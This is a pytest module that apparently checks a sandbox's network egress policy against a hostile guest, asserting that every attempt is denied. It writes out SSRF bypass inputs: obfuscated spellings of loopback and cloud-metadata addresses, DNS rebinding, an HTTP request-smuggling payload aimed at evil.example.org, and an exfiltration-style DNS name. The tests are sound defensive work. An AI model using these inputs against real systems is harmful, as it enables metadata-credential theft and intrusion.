"""What a hostile guest, root included, tries to get past its policy. Every target is a listener that stays untouched.

Two sandboxes: `box` may reach a few names, `open` everything that no rule blocks. The attacks themselves are in
`tests/egress/attacker.py`, which runs inside. The host's resolver is a trap, too: a denied name is asked of nobody.
"""

import json
import os
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from ..egress import attacker
from ..egress.origin import Origin
from ..egress.traps import addresses, traps
from .roots import CLIENTS

pytestmark = [pytest.mark.vm, pytest.mark.skipif(os.getuid() != 0, reason="gives addresses to the loopback device")]

FILE = (
    f"templates: {{clients: {CLIENTS}}}\n"
    + """\
defaults:
  template: clients
  workspaces: [".:/lab:ro"]
sandboxes:
  box:
    policy:
      allow: [api.example.com, cdn.example.com, "*.wild.example.com", unknown.example.com]
  open:
    policy: {mode: allow, allow: [api.example.com], block: [evil.example.org]}
"""
)
METADATA = "169.254.169.254"
METADATA6 = "fd00:ec2::254"
PUBLIC = "198.51.100.80"
NEIGHBOUR = "198.51.100.2"
RESOLVER = "127.83.66.88"
GIVEN = (f"{METADATA}/32", f"{METADATA6}/128", f"{PUBLIC}/32")


@pytest.fixture(scope="module")
def made(module_sbx, module_origin: Origin):
    """Their image, while this host's addresses and name servers are its own: it comes from a mirror."""
    module_sbx.write(FILE)
    (module_sbx.project / "attacker.py").write_bytes(Path(attacker.__file__).read_bytes())
    module_sbx("template", "build")


@pytest.fixture(scope="module")
def host_addresses(made):
    """Addresses that attacks aim at, given to the loopback device for as long as the tests run."""
    for address in GIVEN:
        subprocess.run(["ip", "address", "replace", address, "dev", "lo"], check=True)
    yield
    for address in GIVEN:
        subprocess.run(["ip", "address", "del", address, "dev", "lo"], check=True)


@pytest.fixture
def neighbour(tmp_path):
    """A web server that is neither on this host nor in a private range: in a network namespace beside it."""
    name, link = f"sbx{os.getpid()}", f"sbx{os.getpid()}"
    (tmp_path / "index.html").write_text("the neighbour\n")
    for command in (
        f"ip netns add {name}",
        f"ip link add {link} type veth peer name eth0 netns {name}",
        f"ip address add 198.51.100.1/30 dev {link}",
        f"ip link set {link} up",
        f"ip -n {name} address add {NEIGHBOUR}/30 dev eth0",
        f"ip -n {name} link set eth0 up",
    ):
        subprocess.run(command.split(), check=True)
    serve = ["ip", "netns", "exec", name, sys.executable, "-m", "http.server", "8080", "--bind", NEIGHBOUR]
    server = subprocess.Popen(serve, cwd=tmp_path, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    yield f"{NEIGHBOUR}:8080"
    server.kill()
    server.wait()
    subprocess.run(["ip", "netns", "del", name], check=True)


@pytest.fixture(scope="module")
def resolver():
    """Takes the place of the host's name servers for everything that `sbx` starts here."""
    with traps() as listeners:
        yield listeners.udp(RESOLVER, 53)


@pytest.fixture(scope="module")
def boxes(made, module_sbx, module_origin: Origin, host_addresses, resolver, tmp_path_factory):
    servers = tmp_path_factory.mktemp("resolver") / "resolv.conf"
    servers.write_text(f"nameserver {RESOLVER}\noptions timeout:1 attempts:1\n")
    module_sbx.wrapper = [
        *("unshare", "--mount", "sh", "-c", 'mount --bind "$0" /etc/resolv.conf && exec "$@"', str(servers)),
    ]
    module_sbx("up", "--yes")
    module_sbx.wrapper = []  # what is started has it, and goes on with it

    def attack(sandbox, way, root=False, **arguments):
        """One of the attacker's functions, inside; gives how its attempts ended."""
        python = ["sudo", "python3"] if root else ["python3"]
        program = [*python, "/lab/attacker.py", way, json.dumps(arguments)]
        return json.loads(module_sbx("exec", sandbox, *program, timeout=300).stdout)

    attack.sbx, attack.origin = module_sbx, module_origin
    yield attack
    module_sbx("down", "--yes")


@pytest.fixture(autouse=True)
def nothing_denied_is_resolved(resolver):
    yield
    resolver.assert_untouched()


@pytest.fixture(params=["box", "open"])
def sandbox(request):
    return request.param


def publish(boxes, **names):
    """What names below wild.example.com lead to from now on."""
    more = {f"{name}.wild.example.com": place for name, place in names.items()}
    boxes.origin.publish(boxes.sbx.home / ".config/sandboxfile", more)


def refused(ends):
    return all("Refused" in end or "nreachable" in end or "No route" in end for end in ends)


def denied(answers):
    """Each was answered with a denial, or as nonsense, or with nothing."""
    return all(answer.split("\r\n")[0].split(" ")[1:2] in (["403"], ["400"], []) for answer in answers)


def test_services_of_the_host_and_its_network(boxes, traps, sandbox):
    lan = addresses()
    ports = sorted({traps.tcp(host).port for host in ("127.0.0.1", *lan)})
    six = traps.tcp("::1").port
    hosts = ["10.0.2.2", "10.0.2.3", "host.docker.internal", "127.0.0.1", *lan]
    told = boxes(sandbox, "services", hosts=hosts, ports=ports)
    assert refused(told["direct"]), told
    assert denied(told["plain"]), told
    assert denied(boxes(sandbox, "spellings", authorities=[f"[::1]:{six}"])["plain"].values())
    traps.assert_untouched()


def test_metadata_addresses(boxes, traps, sandbox):
    for address in (METADATA, METADATA6):
        traps.tcp(address, 80)
        traps.tcp(address, 443)
    four, six = boxes(sandbox, "dials", places=[(METADATA, 80), (METADATA6, 80)])
    assert denied([four]), four
    assert "nreachable" in six
    spelled = ["2852039166", "0xA9FEA9FE", "0251.0376.0251.0376", "169.254.43518", f"{METADATA}."]
    told = boxes(sandbox, "spellings", authorities=[METADATA, f"[{METADATA6}]", f"[::ffff:{METADATA}]", *spelled])
    assert denied(told["plain"].values()), told
    traps.assert_untouched()


def test_a_name_that_leads_to_the_metadata_address_or_the_host(boxes, traps, sandbox):
    loopback = traps.tcp("127.0.0.1").port
    traps.tcp(METADATA, 80)
    publish(boxes, a=METADATA, b=f"127.0.0.1:{loopback}")
    said = boxes.sbx("exec", sandbox, "curl", "-sS", "http://a.wild.example.com/", any_code=True).stdout
    assert METADATA in said
    assert "169.254.0.0/16" in said
    said = boxes.sbx("exec", sandbox, "curl", "-sS", "https://b.wild.example.com/", any_code=True).stdout
    assert "127.0.0.0/8" in said
    traps.assert_untouched()


def test_rebinding_between_two_requests(boxes, traps, neighbour):
    host = traps.tcp("127.0.0.1")

    def get():
        return boxes.sbx("exec", "box", "curl", "-sS", "-m", "9", "http://r.wild.example.com/", any_code=True).stdout

    publish(boxes, r=neighbour)
    boxes.sbx.wait_for(lambda: get() == "the neighbour\n", 30)
    publish(boxes, r=[NEIGHBOUR, f"127.0.0.1:{host.port}"])
    assert "127.0.0.0/8" in get()
    traps.assert_untouched()


def test_an_address_of_this_host_is_not_opened_by_a_wildcard_or_a_mode(boxes, traps, sandbox):
    publish(boxes, h=f"{PUBLIC}:{traps.tcp(PUBLIC).port}")
    said = boxes.sbx("exec", sandbox, "curl", "-sS", "-m", "9", "http://h.wild.example.com/", any_code=True).stdout
    assert "an address of this host" in said
    traps.assert_untouched()


def test_raw_packets_of_every_kind(boxes, traps, sandbox):
    lan = addresses()
    for host in (*lan, PUBLIC):
        traps.tcp(host, 9191)
        traps.udp(host, 9191)
        traps.udp(host, 443)
    host_socket = traps.vsock()
    port = host_socket.port if host_socket else 1024
    told = boxes(sandbox, "packets", root=True, hosts=[*lan, PUBLIC], ports=[9191], vsock_port=port)
    assert refused(told["tcp"]), told
    assert all("rror" in end for end in (*told["udp"], *told["icmp"], *told["ipv6"])), told
    assert told["vsock"] != "connected"
    traps.assert_untouched()


def test_names_that_are_denied_are_asked_of_nobody(boxes, traps, sandbox):
    """Whichever name server the guest asks, and whatever the type of the question."""
    servers = ["10.0.2.2", "192.0.2.53", PUBLIC, *addresses()]
    for host in (*addresses(), PUBLIC):
        traps.udp(host, 53)
        traps.tcp(host, 53)
    name = "c2VjcmV0.evil.example.org" if sandbox == "box" else "evil.example.org"
    told = boxes(sandbox, "questions", servers=servers, name=name)
    assert set(told["codes"]) == {3}, told
    assert refused(told["stream"]), told
    assert "gaierror" in told["lookup"]
    assert denied(boxes(sandbox, "spellings", authorities=[name, f"{name}:80"])["plain"].values())
    traps.assert_untouched()


def test_a_name_that_is_allowed_is_asked_of_the_hosts_resolver(boxes, resolver):
    """What makes the trap of the others worth something: it would have heard."""
    boxes.sbx("exec", "box", "curl", "-sS", "-m", "8", "https://unknown.example.com/", any_code=True)
    assert any(b"unknown" in contact.said for contact in resolver.contacts)
    resolver.forget()


def test_addresses_in_every_spelling(boxes, traps, sandbox):
    port = traps.tcp("127.0.0.1").port
    hosts = [
        *("127.0.0.1", "2130706433", "0x7f000001", "0x7f.1", "0177.0.0.1", "017700000001", "127.1", "127.0.1"),
        *("127.0.0.1.", "0", "0.0.0.0", "[::1]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]"),
        *("[64:ff9b::7f00:1]", "[0:0:0:0:0:0:0:1]", "[2002:7f00:1::]", "localhost", "LOCALHOST."),
        *("\uff11\uff12\uff17.0.0.1", "127\u30020\u30020\u30021", "[::1%25lo]", "127.0.0.1%00.example.com"),
        *("api.example.com@127.0.0.1", "127.0.0.1#api.example.com", "127.0.0.1\\.example.com"),
    ]
    told = boxes(sandbox, "spellings", authorities=[f"{host}:{port}" for host in hosts])
    assert denied(told["plain"].values()), told
    traps.assert_untouched()


def test_one_name_outside_and_another_inside(boxes, sandbox):
    boxes.origin.ledger.forget()
    told = boxes(sandbox, "names", allowed="api.example.com", denied="evil.example.org")
    for name, answer in told.items():
        answers = [part[:3] for part in answer.split("HTTP/1.1 ")[1:]]
        assert answers.count("200") <= ("second" in name), (name, answer)
    assert "200" in told["second request"]
    assert not [seen for seen in boxes.origin.seen() if "evil" in seen.host + seen.target]


def test_requests_that_can_be_read_in_two_ways(boxes):
    boxes.origin.ledger.forget()
    hidden = "GET /hidden HTTP/1.1\r\nHost: evil.example.org\r\n\r\n"
    told = boxes("box", "smuggling", host="api.example.com", hidden=hidden)
    assert len(told) == 9
    assert not [seen for seen in boxes.origin.seen() if "evil" in seen.host or seen.target == "/hidden"], told


def test_another_sandbox_and_the_gateway_itself(boxes):
    """Sandboxes are not on one network, and the gateway has no address on any."""
    assert refused(boxes("box", "dials", places=[("10.0.2.4", 3128), ("10.0.2.16", 22)]))
    (gateway,) = boxes.sbx.processes("gateway")
    assert not _sockets_of(gateway) & _open_to_the_network()
    for host in ("127.0.0.1", *addresses()):
        with socket.socket() as client:
            assert client.connect_ex((host, 3128)) != 0


def _sockets_of(pid):
    links = [str(path.readlink()) for path in Path(f"/proc/{pid}/fd").iterdir()]
    return {link.removeprefix("socket:[").rstrip("]") for link in links if link.startswith("socket:")}


def _open_to_the_network():
    """Inodes of TCP listeners and unconnected UDP sockets of this host's own network, proc_net_tcp(5)."""
    tables = [Path(f"/proc/net/{name}").read_text().splitlines()[1:] for name in ("tcp", "tcp6", "udp", "udp6")]
    lines = [line.split() for table in tables for line in table]
    return {words[9] for words in lines if words[3] in ("0A", "07")}


def test_a_tightened_policy_cuts_a_download_that_runs(boxes):
    size = 1 << 30
    client = boxes.sbx.popen("exec", "box", "sh", "-c", f"curl -sS https://cdn.example.com/bytes/{size} | wc -c")
    boxes.sbx.wait_for(lambda: any(seen.target == f"/bytes/{size}" for seen in boxes.origin.seen()), 60)
    said = boxes.sbx("network", "proxy", "box", "--block-host", "cdn.example.com")
    assert "can no longer reach cdn.example.com" in said.stdout + said.stderr
    out, _ = client.communicate(timeout=60)
    assert int(out) < size
    again = boxes.sbx("exec", "box", "curl", "-sS", "https://cdn.example.com/", any_code=True)
    assert "sbx policy explain box https://cdn.example.com/" in again.stdout
    assert "sbx network proxy" in boxes.sbx("plan", "--detailed-exitcode", code=2).stdout
    boxes.sbx("up", "--yes")
    assert boxes.sbx("exec", "box", "curl", "-sS", "https://cdn.example.com/").stdout == "hello from the origin\n"


def test_root_inside_cannot_go_another_way(boxes, traps):
    traps.tcp(PUBLIC, 9191)
    traps.udp(PUBLIC, 53)
    told = boxes("box", "elsewhere", root=True, address=PUBLIC, name="evil.example.org")
    assert "gaierror" in told["name"], told
    assert all("rror" in end or "timed out" in end for end in (told["address"], told["host file"])), told
    traps.assert_untouched()
    assert boxes.sbx("exec", "box", "curl", "-sS", "https://api.example.com/").stdout == "hello from the origin\n"
